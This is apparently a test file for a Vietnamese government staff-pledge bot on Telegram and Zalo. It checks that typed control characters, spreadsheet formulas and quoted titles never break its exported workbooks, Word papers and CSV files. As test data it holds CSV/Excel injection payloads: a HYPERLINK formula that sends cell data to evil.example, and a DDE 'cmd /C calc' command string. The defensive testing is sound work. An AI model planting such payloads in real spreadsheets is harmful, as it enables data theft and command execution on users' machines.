"""Text that breaks files, tried as a careless user and an attacker would (issue 18): control
characters pasted into every typed field, and already stored by an older version; formulas in
names, positions, commitments and staff lists; quoted titles with "&" through the buttons, the
numbered lists, the workbook and the papers. Through the real adapters and the stand-ins; the
files as the desk receives them."""

from __future__ import annotations

import asyncio
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

from docx import Document
from openpyxl import Workbook, load_workbook

from bot.domain.campaign import Campaign
from bot.domain.records import PledgeStatus
from bot.services.reports import write_export
from tests.conftest import BotStarter, Chat, RunningBot, ZaloChat
from tests.e2e.helpers import join_by_invite
from tests.e2e.test_pledges import register
from tests.e2e.test_zalo import join_with_code
from tests.standins.telegram_api import TelegramStandIn, User
from tests.standins.zalo_api import ZaloStandIn, ZaloUser

DESK = 918001
UNIT = "soctrang-snv-cchc"
CAMPAIGN = "soctrang-cchc-2021-2030"
CONTROLS = "".join(chr(c) for c in [*range(0x00, 0x09), *range(0x0E, 0x20), 0x7F]) + "\u200b\ufeff"
FORMULAS = ('=HYPERLINK("http://evil.example/x?"&A1,"Nguyễn Văn An")', "=cmd|' /C calc'!A0",
            "+SUM(1,2)", "-2+3", "@SUM(A1)", "#N/A")  # fmt: skip
QUOTED = 'Phong trào "Dân vận khéo" & CCHC'
AWARD_FORM = 'Bằng khen "Dân vận khéo" & CCHC'


async def received(standin: TelegramStandIn, chat: Chat, suffix: str, before: int) -> bytes:
    """The next file the bot sends this chat whose name ends with `suffix`."""

    def matching() -> list[bytes]:
        documents = standin.documents[before:]
        return [d for c, n, d in documents if c == chat.user.id and n.endswith(suffix)]

    await standin.wait_until(lambda: bool(matching()), 30)
    return matching()[0]


def sheet_xml(content: bytes) -> str:
    """Every worksheet's XML of a workbook, as written."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
        )


def no_formula_and_clean(content: bytes) -> list[list[Any]]:
    xml = sheet_xml(content)
    assert re.search(r"<f[ >]", xml) is None, "a formula was written"
    assert 't="e"' not in xml, "an error cell was written"
    rows = [
        list(row)
        for sheet in load_workbook(io.BytesIO(content)).worksheets
        for row in sheet.iter_rows(values_only=True)
    ]
    for row in rows:
        for value in row:
            if isinstance(value, str):
                assert not any(ch in value for ch in CONTROLS), value
                assert "&amp;" not in value and "&#34;" not in value, value
    return rows


async def accepted_proposed_closed(bot: RunningBot, ref: str, close: bool = True) -> None:
    """The pledge accepted, proposed for its award form and the year's list closed, as
    the desk does by tapping (tested in test_nominations); here only what follows matters."""
    services = bot.services
    desk = await services.persons.find("telegram", str(DESK))
    pledge = await services.records.pledges.by_ref(ref)
    campaign = await services.catalog.get(CAMPAIGN)
    assert desk is not None and pledge is not None and campaign is not None
    statuses: tuple[PledgeStatus, ...] = ("confirmed", "accepted")
    for status in statuses:
        assert await services.records.change_pledge_status(desk, pledge, status, None, [])
        pledge = await services.records.pledges.by_ref(ref)
        assert pledge is not None
    individual = next(n for n, a in enumerate(campaign.awards) if a.recipients == "individual")
    assert (await services.records.propose_for_award(desk, pledge, campaign, individual)).accepted
    if close:
        assert await services.records.close_nominations(desk, campaign, 2026)


async def papers(standin: TelegramStandIn, desk: Chat) -> tuple[bytes, str]:
    """The nominee list and the tờ trình, asked for by the desk's buttons."""
    (anything,) = await desk.send("/help")
    before = len(standin.documents)
    await desk.tap_data(anything, f"nx:{CAMPAIGN}:2026")
    workbook = await received(standin, desk, ".xlsx", before)
    before = len(standin.documents)
    await desk.tap_data(anything, f"nd:{CAMPAIGN}:2026")
    document = Document(io.BytesIO(await received(standin, desk, ".docx", before)))
    cells = [c.text for table in document.tables for row in table.rows for c in row.cells]
    return workbook, "\n".join([*(p.text for p in document.paragraphs), *cells])


async def exported(standin: TelegramStandIn, desk: Chat) -> bytes:
    before = len(standin.documents)
    await desk.send("/export 52/KH-UBND")
    return await received(standin, desk, ".xlsx", before)


async def test_control_characters_and_formulas_typed_or_stored_never_break_a_file(
    start_bot: BotStarter, standin: TelegramStandIn, tmp_path: Path
) -> None:
    bot = await start_bot(ADMIN_IDS=str(DESK))
    desk = Chat(standin, User(DESK, "Thư"))
    an = Chat(standin, User(731001, "An"))
    evil = Chat(standin, User(731002, "X"))
    await join_by_invite(an, bot, UNIT, "Nguyễn\x01Văn\x07An", "Chuyên\x02viên\u200b")
    person = await bot.services.persons.find("telegram", str(an.user.id))
    assert person is not None
    assert (person.full_name, person.position) == ("Nguyễn Văn An", "Chuyên viên")
    own = "Số hoá\x02 100%\x1f hồ sơ\x7f"
    assert "TD-2026-0001" in await register(an, "Bằng khen (UBND tỉnh)", [], own=own)
    pledge = await bot.services.records.pledges.by_ref("TD-2026-0001")
    assert pledge is not None and pledge.own_commitments == ["Số hoá 100% hồ sơ"]
    await join_by_invite(evil, bot, UNIT, FORMULAS[0], FORMULAS[1])
    assert "TD-2026-0002" in await register(evil, "Bằng khen (UBND tỉnh)", [], FORMULAS[2])

    # A database written before text was cleaned: An's row with every control character.
    dirty = f"Lê{CONTROLS}Văn\x00Bé"
    await bot.services.db.execute(
        "UPDATE pledges SET filed_name = ?, filed_position = ?, own_commitments = ?, comment = ? "
        "WHERE person_id = ?",
        (dirty, f"Chuyên{CONTROLS}viên", json.dumps([f"Cam{CONTROLS}kết"]), f"Ý{CONTROLS}kiến",
         person.id),
    )  # fmt: skip
    await bot.services.db.execute(
        "UPDATE people SET full_name = ? WHERE id = ?", (dirty, person.id)
    )
    await bot.services.db.execute(
        "UPDATE audit_log SET new = ? WHERE id = 1", (json.dumps({"full_name": dirty}),)
    )
    await bot.services.db.execute("UPDATE roster SET full_name = ? WHERE id = 1", (dirty,))

    # A staff list sent back with a formula-like text cell and a real formula cell.
    sheet = Workbook()
    ws = sheet.active
    assert ws is not None
    ws.append(["Mã đơn vị", "Đơn vị", "Họ và tên", "Chức vụ", "Điện thoại / email"])
    ws.append([UNIT, "", '=HYPERLINK("http://evil.example","Tô Minh Nhựt")', FORMULAS[3], ""])
    ws.append([UNIT, "", "Lý Thị Cúc", "Chuyên viên", "=1+1"])
    ws["C2"].data_type = "s"  # the clerk's Excel kept it as text
    buffer = io.BytesIO()
    sheet.save(buffer)
    before = len(standin.messages_to(desk.user.id))
    update_id = standin.send_document(desk.user, "ds.xlsx", buffer.getvalue())
    await standin.wait_until(lambda: update_id in standin.handled)
    assert "Đã nạp danh sách cán bộ" in standin.messages_to(desk.user.id)[before].text
    contacts = await bot.services.db.fetch_all("SELECT contact FROM roster WHERE full_name = ?",
                                               ("Lý Thị Cúc",))  # fmt: skip
    assert [c[0] for c in contacts] == [""]  # a formula's value, never the formula (none cached)

    before = len(standin.documents)
    await desk.send("/roster")
    roster = no_formula_and_clean(await received(standin, desk, ".xlsx", before))
    assert any(r[2] == '=HYPERLINK("http://evil.example","Tô Minh Nhựt")' for r in roster)
    rows = no_formula_and_clean(await exported(standin, desk))
    assert any(row[2] == "Lê Văn Bé" and row[3] == "Chuyên viên" for row in rows), "row lost"
    assert any(r[2] == FORMULAS[0] and r[3] == FORMULAS[1] and r[7] == FORMULAS[2] for r in rows)
    await accepted_proposed_closed(bot, "TD-2026-0001", close=False)
    await accepted_proposed_closed(bot, "TD-2026-0002")
    workbook, submission = await papers(standin, desk)
    nominees = no_formula_and_clean(workbook)
    listed = sorted(r[1:3] for r in nominees if r[0] in (1, 2))  # the numbered rows
    assert listed == [list(FORMULAS[:2]), ["Lê Văn Bé", "Chuyên viên"]]
    assert "Bằng khen (UBND tỉnh): 2 cá nhân;" in submission

    # CSV (export --out ds.csv): OWASP's leading quote before =, +, -, @, tab, CR. Written by
    # what the worker process runs for the command line, here in a thread.
    campaign = await bot.services.catalog.get(CAMPAIGN)
    assert campaign is not None
    t = bot.services.translator.for_language("vi")
    scope = [u.id for u in await bot.services.units.subtree(campaign.participants.units)]
    await asyncio.to_thread(write_export, bot.services.db.path, bot.services.clock, campaign, t,
                            2026, scope, tmp_path / "ds.csv")  # fmt: skip
    text = (tmp_path / "ds-individual.csv").read_text(encoding="utf-8-sig")
    assert f"\"'{FORMULAS[0]}" in text.replace('""', '"') and f"'{FORMULAS[1]}" in text
    assert f"'{FORMULAS[2]}" in text and "Lê Văn Bé" in text
    missing = (tmp_path / "ds-not_registered.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in missing.replace('""', '"') and "'-2+3" in missing


async def quoted_campaign(bot: RunningBot) -> Campaign:
    """The seed campaign renamed as plans often are, with an award form to match."""
    campaign = await bot.services.catalog.get(CAMPAIGN)
    assert campaign is not None
    awards = [
        a.model_copy(update={"form": AWARD_FORM}) if a.form == "Bằng khen" else a
        for a in campaign.awards
    ]
    renamed = campaign.model_copy(update={"title": QUOTED, "short_title": QUOTED, "awards": awards})
    await bot.services.campaigns.upsert(renamed, "test")
    return renamed


async def test_quoted_titles_read_as_written_on_buttons_lists_and_papers(
    start_bot: BotStarter, standin: TelegramStandIn
) -> None:
    bot = await start_bot(ADMIN_IDS=str(DESK))
    await quoted_campaign(bot)
    desk = Chat(standin, User(DESK, "Thư"))
    mai = Chat(standin, User(731003, "Mai"))
    await join_by_invite(mai, bot, UNIT, "Nguyễn Thị Mai", "Chuyên viên")
    listing = [m for m in await mai.send("/campaigns") if m.buttons][-1]
    assert QUOTED in listing.button_labels()
    (detail,) = await mai.tap(listing, QUOTED)
    assert QUOTED in detail.text and "&amp;" not in detail.text
    titles = [m for m in await mai.send("/pledge") if m.buttons][-1]
    award = f"{AWARD_FORM} (UBND tỉnh)"
    assert award in titles.button_labels()
    await mai.tap(titles, award)
    checklist = (await mai.send("Giải quyết đúng hạn 100% hồ sơ được giao"))[-1]
    (review,) = await mai.tap(checklist, "Tiếp tục")
    (saved,) = await mai.tap(review, "Gửi đăng ký")
    assert "TD-2026-0001" in saved.text

    (waiting,) = await desk.send("/review")
    (pledge,) = await desk.tap(waiting, "📝 TD-2026-0001 · Nguyễn Thị Mai")
    _, accepted = await desk.tap(pledge, "✅ Tiếp nhận")
    propose = f"🏅 Đề nghị {award} — hằng năm 2026, 0/10"
    assert propose in accepted.button_labels()
    await desk.tap(accepted, propose)
    desk_person = await bot.services.persons.find("telegram", str(DESK))
    campaign = await bot.services.catalog.get(CAMPAIGN)
    assert desk_person is not None and campaign is not None
    assert await bot.services.records.close_nominations(desk_person, campaign, 2026)
    workbook, submission = await papers(standin, desk)
    rows = no_formula_and_clean(workbook)
    assert [r[4] for r in rows if r[0] == 1] == [award]
    assert QUOTED in "\n".join(str(v) for r in rows for v in r if v)  # the annex's subject
    assert QUOTED in submission
    assert f"{award}: 1 cá nhân;" in submission
    assert "&#34;" not in submission and "&amp;" not in submission and "&lt;" not in submission


async def test_quoted_titles_in_zalo_numbered_lists(
    start_zalo_bot: BotStarter, zalo: ZaloStandIn
) -> None:
    bot = await start_zalo_bot()
    await quoted_campaign(bot)
    chat = ZaloChat(zalo, ZaloUser("0d0a7000000000c1", "Mai"))
    await join_with_code(chat, bot, UNIT, "Nguyễn Thị Mai")
    listed = chat.text(await chat.send("/campaigns"))
    assert re.search(rf"\n\s*\d+\. {re.escape(QUOTED)}\n", listed + "\n"), listed
    titles = chat.text(await chat.send("/pledge"))
    assert f". {AWARD_FORM} (UBND tỉnh)" in titles
    assert "&amp;" not in listed + titles and "&#34;" not in listed + titles
